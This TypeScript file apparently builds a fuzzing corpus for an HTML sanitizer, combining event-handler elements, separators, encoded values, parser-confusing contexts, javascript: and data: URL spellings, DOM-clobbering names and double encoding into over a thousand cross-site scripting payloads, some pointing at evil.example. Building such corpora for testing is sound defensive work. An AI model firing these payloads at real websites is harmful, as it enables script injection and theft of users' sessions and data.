// Combinations of the parts of attacks.

const probe = "alert(document.domain)";

/** Elements whose handler runs without interaction; `%` is the place of a separator, `$` of a value. */
const selfStarting = [
  "<img src=x %onerror=$>",
  `<img src=data:image/gif;base64,AAAA srcset="//evil.example/x 1x" %onerror=$>`,
  "<svg %onload=$></svg>",
  "<svg><g %onload=$></g></svg>",
  "<svg><animate %onbegin=$ attributeName=x dur=1s></svg>",
  "<svg><set %onend=$ attributeName=x dur=1ms></svg>",
  "<svg><image href=x %onerror=$></image></svg>",
  "<body %onload=$>",
  "<body %onpageshow=$>",
  "<video src=x %onerror=$></video>",
  "<video><source src=x %onerror=$></video>",
  "<audio src=x %onloadstart=$ onerror=$></audio>",
  "<details open %ontoggle=$>x</details>",
  "<input autofocus %onfocus=$>",
  "<select autofocus %onfocus=$></select>",
  "<textarea autofocus %onfocus=$></textarea>",
  "<button autofocus %onfocus=$>x</button>",
  "<a href=# tabindex=0 autofocus %onfocus=$>x</a>",
  "<x tabindex=0 autofocus contenteditable %onfocusin=$>x</x>",
  "<iframe src=/favicon.svg %onload=$></iframe>",
  "<object data=x %onerror=$></object>",
  "<embed src=/favicon.svg %onload=$>",
  "<style %onload=$>p{}</style>",
  "<link rel=stylesheet href=/refusal.css %onload=$>",
  "<script src=/none.js %onerror=$></script>",
  "<marquee %onstart=$>x</marquee>",
  "<p %onanimationstart=$ style=animation:x>x</p>",
  "<p %oncontentvisibilityautostatechange=$ style=content-visibility:auto>x</p>",
  "<math><mi autofocus tabindex=0 %onfocus=$>x</mi></math>",
  "<dialog open autofocus tabindex=0 %onfocus=$>x</dialog>",
];

/** Separators before a handler. */
const separators = ["", "/", "\t", "\n", "\f", "\r\n", "/ ", `a="b"`, `a='>'`, `a=b/`, `"`, `'x' `];

/** Spellings of a handler's value. */
const values = [
  probe,
  `"${probe}"`,
  `'${probe}'`,
  `"&#97;lert(document.domain)"`,
  `"\\u0061lert(document.domain)"`,
  `"alert&lpar;document.domain&rpar;"`,
  "alert`1`",
  `"window['al'+'ert'](1)"`,
  `"(0,eval)('ale'+'rt(1)')"`,
];

/** Contexts that parsers treat differently; `%` is the place of the attack. */
const places = [
  "%",
  "<p>%</p>",
  "<p>%",
  `<p title="%">x</p>`,
  "<p title='%'>x</p>",
  `"><p>%`,
  "--><p>%",
  "<!-->%<!-- -->",
  "<!--!>%-->",
  "<!--x--!>%",
  "<![CDATA[%]]>",
  "<svg><![CDATA[</svg>%]]></svg>",
  "<svg><style>%</style></svg>",
  "<svg><title>%</title></svg>",
  "<svg><desc>%</desc></svg>",
  "<svg><foreignObject>%</foreignObject></svg>",
  `<svg><p><style><a id="</style>%">`,
  `<svg></p><style><a title="</style>%">`,
  `<math><mtext><table><mglyph><style><a title="</style>%">`,
  "<math><annotation-xml encoding=text/html>%</annotation-xml></math>",
  `<math><mi><mglyph><svg><mtext><style><path id="</style>%">`,
  "<form><math><mtext></form><form><mglyph><style></math>%",
  `<noscript><p title="</noscript>%">`,
  "<noembed>%</noembed>",
  "<noframes></noframes>%",
  "<textarea></textarea>%",
  `<textarea><p title="</textarea>%">`,
  `<title><p title="</title>%">`,
  `<style><p title="</style>%">`,
  `<xmp><p title="</xmp>%">`,
  `<script><p title="</script>%">`,
  `<iframe><p title="</iframe>%">`,
  `<template><p title="</template>%">`,
  "<template>%</template>",
  "<select><style></select>%</style>",
  "<table><caption><svg><title><table><style></table>%",
  "<table><tr><td></p>%",
  "<a><table><a>%</a></table></a>",
  "<b><p></b>%</p>",
  "<p><![endif]-->%",
  "<?xml %?>",
  "<!DOCTYPE x [%]>",
  "</p %>",
  "<ul><li><a href='/x'>%</a></ul>",
  "<pre><code>%</code></pre>",
];

/** Attributes with an address; `%` is its place. */
const carriers = [
  `<a href="%">x</a>`,
  `<a href='%' target=_blank>x</a>`,
  "<a href=%>x</a>",
  `<svg><a xlink:href="%"><text y=9>x</text></a></svg>`,
  `<svg><a href="%"><rect width=9 height=9 /></a></svg>`,
  `<svg><use href="%"/></svg>`,
  `<svg><a><animate attributeName=href values="%"/><text>x</text></a></svg>`,
  `<math><mi href="%">x</mi></math>`,
  `<map><area shape=default href="%"></map>`,
  `<form action="%"><button>x</button></form>`,
  `<form><button formaction="%">x</button></form>`,
  `<input type=image src="%">`,
  `<iframe src="%"></iframe>`,
  `<object data="%"></object>`,
  `<embed src="%">`,
  `<img src="%">`,
  `<img srcset="% 1x">`,
  `<video poster="%"></video>`,
  `<body background="%">`,
  `<base href="%">`,
  `<link rel=stylesheet href="%">`,
  `<meta http-equiv=refresh content="0;url=%">`,
  `<blockquote cite="%">x</blockquote>`,
  `<p style="background:url('%')">x</p>`,
];

/** Addresses of scripts, documents and other hosts, in equivalent spellings. */
const addresses = [
  `javascript:${probe}`,
  `JaVaScRiPt:${probe}`,
  ` \u0001\u001fjavascript:${probe}`,
  `java\tscript:${probe}`,
  `java\nscript:${probe}`,
  `java&Tab;script:${probe}`,
  `java&#10;script&#58;${probe}`,
  `javascript&colon;${probe}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${probe}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${probe}`,
  `&#0000106avascript:${probe}`,
  `&amp;#106;avascript:${probe}`,
  `javascript://%0a${probe}`,
  `javascript://vlotwerk.example/%0d${probe}`,
  `view-source:javascript:${probe}`,
  `feed:javascript:${probe}`,
  `vbscript:${probe}`,
  `data:text/html,<script>${probe}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${probe}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${probe}</script>`,
  "//evil.example/x",
  "\\\\evil.example\\x",
  "blob:https://evil.example/x",
];

/** Names of properties that scripts use (DOM clobbering). */
const shadowed = [
  ..."getElementById querySelector body head cookie domain location documentElement forms images".split(" "),
  ..."createElement attributes childNodes parentNode nodeName innerHTML submit action method".split(" "),
  ..."self top parent frames name origin alert fetch history navigator localStorage".split(" "),
  ..."__proto__ constructor prototype toString hasOwnProperty defaultView".split(" "),
  ..."__reactRouterContext __reactRouterManifest __reactRouterRouteModules".split(" "),
];

const bearers = [
  `<a id="%">x</a>`,
  `<img name="%">`,
  `<form id="%"><input name="%"></form>`,
  `<iframe name="%" srcdoc="x"></iframe>`,
  `<object id="%"></object><a id="%" name="href" href="x:y">x</a>`,
];

/** More than a thousand distinct attacks, by kind. */
export const hostileVariants: Readonly<Record<string, readonly string[]>> = {
  "what starts by itself": across(selfStarting, separators).map(([element, separator], index) =>
    element.replaceAll("%", () => separator && ` ${separator}`).replaceAll("$", () => pick(values, index)),
  ),
  "what stands elsewhere": across(places, [0, 7, 12, 17, 22, 24]).map(([place, step], index) => {
    const element = pick(selfStarting, index + step);
    return place.replaceAll("%", () => element.replaceAll("%", "").replaceAll("$", () => pick(values, step)));
  }),
  "addresses that run": across(carriers, addresses).map(([carrier, address]) =>
    carrier.replaceAll("%", () => address),
  ),
  "names that shadow": across(bearers, shadowed).map(([bearer, name]) => bearer.replaceAll("%", () => name)),
  "encoded twice": selfStarting.flatMap((element) => {
    const written = element.replaceAll("%", "").replaceAll("$", () => probe);
    return [`&lt;p&gt;x&lt;/p&gt;${encode(written)}`, `<iframe srcdoc="${encode(written)}"></iframe>`];
  }),
};

function across<One, Other>(ones: readonly One[], others: readonly Other[]): [One, Other][] {
  return ones.flatMap((one) => others.map((other): [One, Other] => [one, other]));
}

function pick(items: readonly string[], index: number): string {
  return items[index % items.length] ?? "";
}

function encode(html: string): string {
  return html
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;");
}
